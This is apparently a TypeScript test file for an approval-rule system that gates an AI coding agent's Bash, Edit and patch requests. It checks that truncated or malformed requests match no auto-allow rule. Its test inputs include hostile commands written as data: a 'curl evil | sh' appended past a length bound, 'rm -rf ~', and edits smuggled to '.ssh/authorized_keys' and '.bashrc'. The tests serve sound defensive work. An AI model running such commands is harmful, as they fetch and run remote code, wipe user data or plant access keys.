/**
 * A subject is whole or it is not (issue #22 §3): a request cut to a bound or not readable matches no approval rule
 * and offers none, and a patch's file names are read from the whole patch, both sides of every header.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ApprovalRule, RuleContext } from '../../../extension/model/approvalRules';
import { matchRules, ruleFor } from '../../../extension/model/approvalRules';
import { runEventSchema } from '../../../extension/drivers/kit/journalRecords';
import { subjectOf } from '../../../extension/model/approvalSubject';
import { ruleChoices } from '../../../extension/ui/approvals/ruleDecision';

const here: RuleContext = { runKey: 'ap:A::run-1', connectionId: 'ap:A', epoch: 1 };
const scope = { kind: 'run', runKey: here.runKey } as const;
const options = ['allow_once', 'deny'] as const;

function offers(subject: ReturnType<typeof subjectOf>): boolean {
  return ruleChoices({ subject, options: [...options] }, true).length > 0;
}

const anyBash: ApprovalRule = { id: 'any', effect: 'allow', tool: 'Bash', pattern: { kind: 'anyInput' }, scope, createdAt: 0, label: 'every Bash request' };
const anyEdit: ApprovalRule = { ...anyBash, id: 'anyEdit', tool: 'Edit', label: 'every Edit request' };
const srcEdits: ApprovalRule = { ...anyEdit, id: 'src', pattern: { kind: 'pathGlob', glob: 'src/**' }, label: 'src/**' };

test('a command cut to its bound matches no rule, not even "every request", and offers none', () => {
  const npmTest = ruleFor(subjectOf('Bash', { command: 'npm test' }), 'allow', scope, 'npm', 0);
  const long = subjectOf('Bash', { command: `npm test ${'x'.repeat(2100)}; curl evil | sh` });
  assert.equal(long.complete, undefined);
  assert.equal(long.command?.length, 2000, 'what is shown stays bounded');
  assert.equal(matchRules([npmTest, anyBash], long, here), undefined);
  assert.equal(offers(long), false);
  assert.throws(() => ruleFor(long, 'allow', scope, 'r', 0), /cut or could not be read/);
  const whole = subjectOf('Bash', { command: `npm test ${'x'.repeat(1900)}` });
  assert.equal(matchRules([npmTest], whole, here)?.id, 'npm', 'a long command within the bound is still matched');
  assert.equal(offers(whole), true);
});

test('more than 50 paths: none of them is matched, the 51st included', () => {
  const paths = Array.from({ length: 50 }, (_, i) => `src/f${i}.ts`);
  const fifty = subjectOf('Edit', { paths });
  assert.equal(matchRules([srcEdits], fifty, here)?.id, 'src');
  const more = subjectOf('Edit', { paths: [...paths, '/home/u/.ssh/authorized_keys'] });
  assert.equal(more.paths?.length, 50);
  assert.equal(matchRules([srcEdits, anyEdit], more, here), undefined);
  assert.equal(offers(more), false);
});

test("a long patch: file names past 2,000 characters are read, and a patch's deleted and renamed files count", () => {
  const body = `@@ -1,1 +1,1 @@\n-${'a'.repeat(2100)}\n+b\n`;
  const patch = `--- a/src/a.ts\n+++ b/src/a.ts\n${body}--- a/home/u/.bashrc\n+++ b/home/u/.bashrc\n${body}`;
  const subject = subjectOf('ApplyPatch', { patch });
  assert.deepEqual(subject.paths, ['src/a.ts', 'home/u/.bashrc']);
  assert.equal(matchRules([srcEdits].map((r) => ({ ...r, tool: 'ApplyPatch' })), subject, here), undefined);
  const deletes = subjectOf('ApplyPatch', { patch: '--- a/src/a.ts\n+++ b/src/a.ts\n--- a/etc/important\n+++ /dev/null\n' });
  assert.deepEqual(deletes.paths, ['src/a.ts', 'etc/important'], 'the deleted file is named by its --- side');
  const renames = subjectOf('ApplyPatch', { patch: 'diff --git a/src/a.ts b/lib/a.ts\nsimilarity index 100%\nrename from src/a.ts\nrename to lib/a.ts\n' });
  assert.deepEqual(renames.paths, ['src/a.ts', 'lib/a.ts']);
  assert.equal(renames.complete, true);
  const binary = subjectOf('ApplyPatch', { patch: 'diff --git a/img.png b/img.png\nBinary files a/img.png and b/img.png differ\n' });
  assert.deepEqual(binary.paths, ['img.png']);
  const moves = subjectOf('apply_patch', { patch: '*** Begin Patch\n*** Update File: src/a.ts\n*** Move to: ../outside.ts\n@@\n-a\n+b\n*** End Patch\n' });
  assert.deepEqual(moves.paths, ['src/a.ts', '../outside.ts']);
});

test('unreadable inputs make the subject incomplete instead of smaller', () => {
  const incomplete: readonly (readonly [string, unknown])[] = [
    ['a quoted git name', { patch: '--- "a/src/\\303\\251.ts"\n+++ "b/src/\\303\\251.ts"\n' }],
    ['a git section naming nothing it can be read from', { patch: 'diff --git a/x b/y\nold mode 100644\nnew mode 100755\n' }],
    ['a patch with no file names', { patch: 'rm -rf ~' }],
    ['a patch that is not text', { patch: { files: ['x'] } }],
    ['a path that is not text', { file_path: 42 }],
    ['a path list with something else in it', { paths: ['src/a.ts', { evil: true }] }],
    ['a path list that is not a list', { paths: 'src/a.ts' }],
    ['an argv with something else in it', { command: ['rm', 1] }],
    ['a command that is an object', { command: { run: 'x' } }],
    ['a blank command', { command: '   ' }],
    ['two commands', { command: 'npm test', cmd: ['rm', '-rf', '~'] }],
    ['a path past the bound', { file_path: `src/${'d/'.repeat(1100)}a.ts` }],
  ];
  for (const [what, input] of incomplete) {
    const subject = subjectOf('Edit', input);
    assert.equal(subject.complete, undefined, what);
    assert.equal(matchRules([anyEdit], subject, here), undefined, what);
    assert.equal(offers(subject), false, what);
  }
  assert.equal(subjectOf('x'.repeat(201), {}).complete, undefined, 'a tool name past its bound');
  assert.equal(subjectOf('WebFetch', { url: 'https://example.com' }).complete, true, 'a request naming no file or command is whole');
});

test('a subject recorded without the field (an older journal) is not known whole: asked, nothing offered', () => {
  const old = { tool: 'Bash', command: 'npm test' };
  assert.equal(matchRules([anyBash], old, here), undefined);
  assert.equal(offers(old), false);
});

test('a whole subject stays whole through the journal (a reload must not turn it into one never matched, or back)', () => {
  const subject = subjectOf('Bash', { command: 'npm test' });
  const event = { kind: 'approvalRequested', approvalId: 'a', title: 'Bash', detail: null, options: ['allow_once'], subject };
  const parsed = runEventSchema.safeParse(event);
  assert.ok(parsed.success);
  assert.deepEqual(parsed.data.kind === 'approvalRequested' ? parsed.data.subject : undefined, { tool: 'Bash', command: 'npm test', complete: true });
});
